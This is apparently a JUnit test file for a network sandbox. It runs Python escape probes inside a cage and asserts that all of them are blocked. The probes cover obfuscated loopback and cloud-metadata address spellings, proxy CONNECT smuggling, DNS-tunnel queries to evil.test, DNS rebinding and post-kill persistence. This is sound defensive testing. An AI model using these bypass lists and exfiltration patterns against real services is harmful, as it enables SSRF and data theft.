package dev.cagewright.network;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.cagewright.escape.stage.Command;
import dev.cagewright.escape.stage.HostSide;
import dev.cagewright.escape.stage.Programs;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// A program in a cage with a network that wants out by any other way than the one that its policy leaves open.
class AttackTest {
    /// One connection, all bytes at once; what comes back.
    private static final String SAY = """
            import errno, socket, struct, sys
            def say(host, port, data, wait=30):
                out = b''
                try:
                    s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)
                    s.settimeout(wait)
                    s.connect((host, port))
                    s.sendall(data)
                    while len(out) < 4000:
                        more = s.recv(4096)
                        if not more: break
                        out += more
                    return out
                except socket.timeout:
                    return out or b'silence'
                except OSError as e:
                    return b'error ' + errno.errorcode.get(e.errno, '?').encode()
            def get(host, path='/ok'):
                return ('GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % (path, host)).encode()
            """;

    @TempDir
    private Path folder;

    private static Command.Result ended(Command command) throws IOException, InterruptedException {
        try (command) {
            return command.await();
        }
    }

    private static String ok(int port, String host) {
        return "host: \"" + host + "\", ports: [" + port + "], methods: [GET], paths: [/ok], addresses: [127.0.0.1]";
    }

    /// The acts that a cage without a network is tried with, in one that has one.
    @Test
    void no_other_family_of_sockets_and_no_listener_of_the_host_is_reached_from_a_cage_with_a_network()
            throws IOException, InterruptedException {
        var programs = Programs.compile();
        var none = new HostSide.Places(
                "cagewright-attack-" + ProcessHandle.current().pid(), "-", "-", "-");
        try (var host = HostSide.start(programs.host(), none)) {
            var caged = AttackedCage.by(folder, "host: a.test");
            var probe = Files.copy(programs.probe(), caged.workspace().resolve("probe"));
            assertThat(probe.toFile().setExecutable(true, false)).isTrue();
            var ids = Command.output(List.of(probe.toString(), "list"), folder)
                    .lines()
                    .map(line -> line.split("\\t", -1))
                    .filter(columns -> columns[1].equals("I1"))
                    .map(columns -> columns[0])
                    .toList();
            assertThat(ids).hasSizeGreaterThan(20);
            var facts = new ArrayList<>(List.of(probe.toString(), String.join(" ", ids), "outside=no", "init=1"));
            host.facts().forEach((name, value) -> facts.add(name + "=" + value));
            var ran = ended(caged.python("""
                    import subprocess, sys
                    for one in sys.argv[2].split():
                        subprocess.run([sys.argv[1], 'run', 'both', one] + sys.argv[3:])
                    """, facts.toArray()));
            var lines = ran.out().lines().map(line -> line.split("\\t", -1)).toList();
            assertThat(lines).as(ran.toString()).hasSize(2 * ids.size());
            var wrong = lines.stream()
                    .filter(columns -> !(columns[1].equals("allowed")
                                    ? List.of("succeeded")
                                    : List.of("refused", "cannot"))
                            .contains(columns[2]))
                    .map(columns -> String.join(" ", columns))
                    .toList();
            // what is sent there is sent to lo, the one interface that there is
            assertThat(wrong).isSubsetOf("broadcast denied succeeded ");
            assertThat(host.contacts()).isEmpty();
        }
    }

    @Test
    void B043_addresses_of_the_host_and_of_clouds_reach_nobody_however_they_are_spelt()
            throws IOException, InterruptedException {
        try (var origin = new Wiretap("127.0.0.1", 0);
                var four = new Wiretap("127.0.0.1", 0);
                var six = new Wiretap("::1", 0);
                var datagrams = new DatagramSocket(new InetSocketAddress(InetAddress.ofLiteral("127.0.0.1"), 0))) {
            var caged = AttackedCage.by(folder, ok(origin.port(), "a.test"));
            var ran = ended(caged.python(SAY + """
                    origin, four, six, udp = map(int, sys.argv[1:])
                    name = 'a.test:%d' % origin
                    a = socket.gethostbyname('a.test')
                    print('twin', b'tapped' in say(a, origin, get(name)), flush=True)
                    print('twin', b'tapped' in say('::ffff:' + a, origin, get(name)), flush=True)
                    places = ['127.0.0.1', '127.1.2.3', '::1', '::ffff:127.0.0.1', '0.0.0.0', '::', '64:ff9b::7f00:1',
                              '64:ff9b:1::7f00:1', '2002:7f00:1::1', '::7f00:1', '::ffff:0:7f00:1', 'fe80::1',
                              'fe80::1%lo', '169.254.169.254', 'fd00:ec2::254', 'fd20:ce::254', '100.100.100.200',
                              '168.63.129.16', '192.0.0.192', '10.0.0.1', '198.51.100.1', '11.84.9.9', '64:ff9b::' + a,
                              '::ffff:169.254.169.254', 'ff02::1', '224.0.0.1', '255.255.255.255', '2001:db8::1']
                    for place in places:
                        for port in (four, six, origin, 3128, 80, 443, 22):
                            for host in (name, '127.0.0.1:%d' % four, 'a.test'):
                                got = say(place, port, get(host))
                                if b'tapped' in got or got == b'silence' or b' 200 ' in got:
                                    print('through', place, port, host, got[:60])
                    spelt = ['127.0.0.1', 'localhost', 'LOCALHOST.', 'foo.localhost', '[::1]', '[::ffff:127.0.0.1]',
                             '[::ffff:7f00:1]', '[64:ff9b::7f00:1]', '0x7f000001', '0x7f.1', '2130706433', '017700000001',
                             '0177.0.0.1', '127.1', '127.0.1', '127.0.0.1.', '0', '[::]', '169.254.169.254', '[fd00:ec2::254]',
                             '0xa9fea9fe', '2852039166', '[fe80::1%25lo]', '[fe80::1%lo]', 'u@127.0.0.1', 'a.test@127.0.0.1',
                             'a.test%2e', 'a.test%00.b.test', '127.0.0.1%23', '\\uff41.test', '127\\u30020.0.1', '\\u2460.0.0.1',
                             '\\u0661\\u0662\\u0667.0.0.1', 'xn--a-ecp.test', 'a.test..', '.a.test', 'a_test', 'a.test\\\\@b']
                    for host in spelt:
                        for port in (four, six, origin, 53, 3128, 80):
                            there = ('%s:%d' % (host, port)).encode()
                            inner = get('127.0.0.1:%d' % four)
                            connect = b'CONNECT ' + there + b' HTTP/1.1\\r\\nHost: ' + there + b'\\r\\n\\r\\n'
                            full = b'GET http://' + there + b'/ok HTTP/1.1\\r\\nHost: ' + there + b'\\r\\nConnection: close\\r\\n\\r\\n'
                            other = b'GET http://' + there + b'/ok HTTP/1.1\\r\\nHost: ' + name.encode() + b'\\r\\nConnection: close\\r\\n\\r\\n'
                            for what in (connect + inner, connect + connect + inner, full, other):
                                got = say('127.0.0.2', 3128, what)
                                if b'tapped' in got or b' 200 OK' in got:
                                    print('through', host, port, what, got[:60])
                    for place in places:
                        for port in (udp, 53, 123, 443, 5353):
                            try:
                                s = socket.socket(socket.AF_INET6 if ':' in place else socket.AF_INET, socket.SOCK_DGRAM)
                                s.sendto(b'out', (place, port))
                            except OSError:
                                pass
                    print('done')
                    """, origin.port(), four.port(), six.port(), datagrams.getLocalPort()));
            assertThat(ran.out()).as(ran.err()).isEqualTo("twin True\ntwin True\ndone\n");
            assertThat(origin.heard()).hasSize(2).allMatch(one -> one.startsWith("GET /ok HTTP/1.1\r\nHost: a.test"));
            assertThat(four.isUntouched()).isTrue();
            assertThat(six.isUntouched()).isTrue();
            assertThat(silent(datagrams)).isTrue();
        }
    }

    private static boolean silent(DatagramSocket socket) throws IOException {
        socket.setSoTimeout(1);
        try {
            socket.receive(new DatagramPacket(new byte[64], 64));
            return false;
        } catch (SocketTimeoutException _) {
            return true;
        }
    }

    @Test
    void questions_and_refused_requests_carry_nothing_to_a_name_server() throws IOException, InterruptedException {
        requireRoot();
        try (var origin = new Wiretap("127.0.0.1", 0);
                var desk = new NameDesk(_ -> "127.0.0.1")) {
            var caged = AttackedCage.by(
                            folder,
                            "host: \"*.wild.test\", ports: [" + origin.port()
                                    + "], paths: [/ok], addresses: [127.0.0.0/8]")
                    .asking(NameDesk.ADDRESS);
            var ran = ended(caged.python(SAY + """
                    import os
                    port = int(sys.argv[1])
                    def ask(name, kind, at='9.9.9.9', tcp=False):
                        q = b'\\x12\\x34\\x01\\x00\\0\\x01\\0\\0\\0\\0\\0\\0'
                        q += b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\\0' + struct.pack('>HH', kind, 1)
                        if tcp:
                            return say(at, 53, struct.pack('>H', len(q)) + q)[2:]
                        s = socket.socket(socket.AF_INET6 if ':' in at else socket.AF_INET, socket.SOCK_DGRAM)
                        s.settimeout(30)
                        s.sendto(q, (at, 53))
                        return s.recv(4096)
                    answers = 0
                    for i in range(60):
                        label = os.urandom(31).hex().encode()
                        for zone in (b'evil.test', b'wild.test', b'a.b.c.d.wild.test'):
                            for kind in (1, 5, 10, 12, 15, 16, 28, 33, 64, 65, 255, 99):
                                got = ask(label + b'.' + zone, kind)
                                answers += kind not in (1, 12) and got[7]
                    answers += ask(b'.'.join([label] * 3) + b'.wild.test', 16, '1.1.1.1', tcp=True)[7]
                    print('records', answers)
                    for at in ('8.8.8.8', '127.0.0.53', '10.0.0.2', '2001:4860:4860::8888', sys.argv[2]):
                        ask(b'direct.evil.test', 1, at)
                    for host in ('secret.evil.test', 'secret.wild.test.evil.test', 'wild.test'):
                        there = '%s:%d' % (host, port)
                        sink = socket.gethostbyname(host)
                        refused = [say(sink, port, get(there)), say('127.0.0.1', 3128, b'CONNECT ' + there.encode() + b' HTTP/1.1\\r\\n\\r\\n'),
                                   say('127.0.0.1', 3128, ('GET http://%s/ok HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % (there, there)).encode())]
                        print(host, [got[9:12].decode() for got in refused])
                    denied = say(socket.gethostbyname('known.wild.test'), port, get('known.wild.test:%d' % port, '/no'))
                    print('path', denied[9:12].decode())
                    print('twin', b'tapped' in say(socket.gethostbyname('twin.wild.test'), port, get('twin.wild.test:%d' % port)))
                    """, origin.port(), NameDesk.ADDRESS));
            assertThat(ran.out()).as(ran.err()).startsWith("records 0\n").endsWith("path 403\ntwin True\n");
            assertThat(ran.out().lines().filter(line -> line.contains("test [")).toList())
                    .as(ran.err())
                    .hasSize(3)
                    .allMatch(line -> line.matches("\\S+ \\['403', '(403|400)', '403']"));
            assertThat(desk.asked()).isNotEmpty().containsOnly("twin.wild.test");
            assertThat(origin.heard()).hasSize(1);
        }
    }

    @Test
    void a_name_that_leads_inside_later_is_refused_then() throws IOException, InterruptedException {
        requireRoot();
        var count = new AtomicInteger();
        var turns = List.of("127.0.1.9", "127.0.0.1", "169.254.169.254", "127.0.1.9", "10.0.0.1", "0.0.0.0");
        var seen = new ConcurrentHashMap<String, String>();
        try (var inside = new Wiretap("127.0.0.1", 0);
                var origin = new Wiretap("127.0.1.9", inside.port());
                var desk = new NameDesk(
                        name -> seen.computeIfAbsent(name, _ -> turns.get(count.getAndIncrement() % turns.size())))) {
            var caged = AttackedCage.by(
                            folder, "host: \"*.turn.test\", ports: [" + origin.port() + "], addresses: [127.0.1.0/24]")
                    .asking(NameDesk.ADDRESS);
            var ran = ended(caged.python(SAY + """
                    port = int(sys.argv[1])
                    for i in range(6):
                        name = 'n%d.turn.test' % i
                        print(say(socket.gethostbyname(name), port, get('%s:%d' % (name, port)))[9:12].decode(), flush=True)
                    """, origin.port()));
            assertThat(ran.out().lines().toList())
                    .as(ran.err())
                    .containsExactly("200", "403", "403", "200", "403", "403");
            assertThat(origin.heard()).hasSize(2);
            assertThat(inside.isUntouched()).isTrue();
            assertThat(desk.asked()).contains("n5.turn.test");
        }
    }

    private static void requireRoot() {
        assumeTrue(
                Objects.equals(System.getProperty("user.name"), "root"),
                "a name server at port 53 and another resolv.conf need root");
    }

    @Test
    void nothing_passes_once_the_supervisor_is_killed() throws IOException, InterruptedException {
        try (var origin = new Wiretap("127.0.0.1", 0)) {
            var caged = AttackedCage.by(folder, ok(origin.port(), "a.test"));
            try (var run = caged.python(SAY + """
                    import os, threading, time
                    port = int(sys.argv[1])
                    a = socket.gethostbyname('a.test')
                    if os.fork() == 0: os.setsid()
                    held = socket.create_connection((a, port))
                    held.sendall(get('a.test:%d' % port).replace(b'Connection: close\\r\\n', b''))
                    while True:
                        say(a, port, get('a.test:%d' % port))
                        time.sleep(0.01)
                    """, origin.port())) {
                await(() -> origin.heard().size() > 20 || !run.isAlive());
                assertThat(run.isAlive()).as(run.errorsSoFar()).isTrue();
                Command.output(List.of("kill", "-KILL", String.valueOf(run.pid())), folder);
                run.await();
                await(() -> origin.open() == 0);
                await(() -> living(caged.workspace().resolve("attack.py").toString())
                        .isEmpty());
            }
        }
    }

    private interface Condition {
        boolean holds() throws IOException;
    }

    private static void await(Condition condition) throws IOException, InterruptedException {
        long end = System.nanoTime() + 60_000_000_000L;
        while (!condition.holds()) {
            assertThat(System.nanoTime()).as("nothing came of it in a minute").isLessThan(end);
            Thread.sleep(20);
        }
    }

    /// Processes that have `word` among their arguments.
    private static List<String> living(String word) throws IOException {
        try (var all = Files.newDirectoryStream(Path.of("/proc"), "[0-9]*")) {
            var found = new ArrayList<String>();
            for (Path process : all) {
                try {
                    if (Files.readString(process.resolve("cmdline"), StandardCharsets.ISO_8859_1)
                            .contains(word)) {
                        found.add(process.getFileName().toString());
                    }
                } catch (IOException _) {
                    // it has ended meanwhile
                }
            }
            return found;
        }
    }
}
